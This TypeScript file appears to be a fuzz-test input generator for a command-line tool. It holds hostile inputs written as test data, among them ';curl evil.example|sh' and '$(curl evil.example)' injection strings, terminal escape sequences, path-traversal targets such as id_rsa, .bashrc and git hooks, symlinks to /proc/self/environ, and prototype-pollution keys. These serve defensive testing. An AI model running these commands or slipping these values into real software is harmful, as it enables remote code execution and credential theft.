import { createHash } from "node:crypto";
import { BAIT_FILES, contentOf, EMPTY_FOLDERS } from "../room/bait.ts";
import type { Entry } from "../room/room.ts";
import { up, type World } from "../room/world.ts";
import type { Random } from "./random.ts";

/** What runs when a user pastes a suggested command that holds it. */
export const PASTED = ";curl evil.example|sh";

const ESCAPES = [
  "\x1b[2J\x1b[31m",
  "\x1b]0;title\x07",
  "\x1b]8;;http://evil.example\x07",
  "\x9b31m",
  "\r",
  "\b\b",
  "\x07",
];

/** A text that a terminal or a shell would act on. */
export function wicked(random: Random): string {
  return random.pick([
    ...ESCAPES.map((sequence) => `text${sequence}more`),
    `9.9.9${PASTED}`,
    `1.0.0$(curl evil.example)`,
    "a\nerror: b\nc",
    "__proto__",
    "constructor",
    "../../home/id_rsa",
    "--force",
    "x".repeat(20_000),
    "\u0000",
    "\u202e\u2066",
    "",
    " ",
  ]);
}

/** A path that leads out of a project, or to what no command may touch in it. */
export function pathOutside(world: World): string {
  const { random } = world;
  const out = up(world);
  const file = random.pick(BAIT_FILES);
  return random.pick([
    `${out}/${file}`,
    `${out}/${file}`,
    `${out}/${file}`,
    `./${out}/${file}`,
    `steps/../${out}/${file}`,
    `{room}/${file}`,
    `/{room}/${file}`,
    `file://{room}/${file}`,
    `${out}/home/fresh-${random.below(1000)}`,
    `${out}/${random.pick(EMPTY_FOLDERS)}`,
    `${out}\\home\\.bashrc`,
    "C:\\Windows\\x",
    "C:x",
    "\\\\server\\share\\x",
    `${out}/home/.bashrc\u0000.txt`,
    "tunnel/.bashrc",
    "tunnel/id_rsa",
    ".git/hooks/pre-commit",
    ".git/config",
    ".GIT/config",
    ".git/../.git/hooks/post-checkout",
    ".venv/bin/python",
    ".plinth/../.git/config",
    ".plinth/journal",
    ".plinth/lock",
    "..",
    ".",
    "",
    "/",
    "~/.bashrc",
    `${"deep/".repeat(600)}x`,
    "a\u001b[2Jb",
    "a\nb",
    "__proto__",
  ]);
}

/** JSON of another shape than expected. */
export function garbage(random: Random): string | Uint8Array {
  return random.pick<() => string | Uint8Array>([
    () => "",
    () => "null",
    () => "[]",
    () => "{}",
    () => "0",
    () => '"text"',
    () => "true",
    () => "{",
    () => "\ufeff{}",
    () => '{"pid":',
    () => "[".repeat(200_000),
    () => `${"[".repeat(100_000)}${"]".repeat(100_000)}`,
    () => '{"__proto__":{"entries":[]},"constructor":1}',
    () => "\u0000\u0000",
    () => new Uint8Array([0xff, 0xfe, 0x00, 0x80, 0xc3]),
    () => "\u001b[2J\u001b[31mred",
    () => "x".repeat(2_000_000),
    () => "line\n".repeat(50_000),
    () => "\r\n\r\n",
  ])();
}

/** A value of JSON of any type. */
export function anything(random: Random): unknown {
  return random.pick<unknown>([
    null,
    0,
    -1,
    1e308,
    true,
    "",
    "text",
    [],
    {},
    [[]],
    [null],
    { length: 3 },
    { path: "x" },
    "x".repeat(5000),
    wicked(random),
  ]);
}

/** A hash that a record may claim: of what is there, of what is empty, or no hash. */
export function someHash(random: Random, content: string): string | null {
  return random.pick<string | null>([
    null,
    null,
    hash(content),
    hash(content),
    hash(""),
    "0",
    "",
    "x".repeat(64),
  ]);
}

export const hash = (content: string): string => createHash("sha256").update(content).digest("hex");

/** The entry at a path, where it is a bait or a file of the room. */
export function entry({ room, root }: World, path: string): string {
  const bait = BAIT_FILES.find((name) => path.endsWith(`/${name}`));
  return bait === undefined ? (room.text(`${root}/${path}`) ?? "") : contentOf(bait);
}

/** What takes the place of a file: something that leads elsewhere, never ends, or is none. */
export function impostor(world: World): Entry {
  const { random } = world;
  const bait = random.pick(BAIT_FILES);
  return random.pick<Entry>([
    { kind: "link", to: `{room}/${bait}` },
    { kind: "link", to: `{room}/${bait}` },
    { kind: "link", to: `{room}/home/fresh` },
    { kind: "link", to: "/dev/zero" },
    { kind: "link", to: "/proc/self/environ" },
    { kind: "link", to: "." },
    { kind: "link", to: "{room}/home" },
    { kind: "same", as: bait },
    { kind: "pipe" },
    { kind: "folder" },
    { kind: "sparse", bytes: 3_000_000_000 },
    { kind: "sparse", bytes: 700_000_000 },
    { kind: "file", content: garbage(random) },
    { kind: "file", content: "x", mode: 0o000 },
  ]);
}
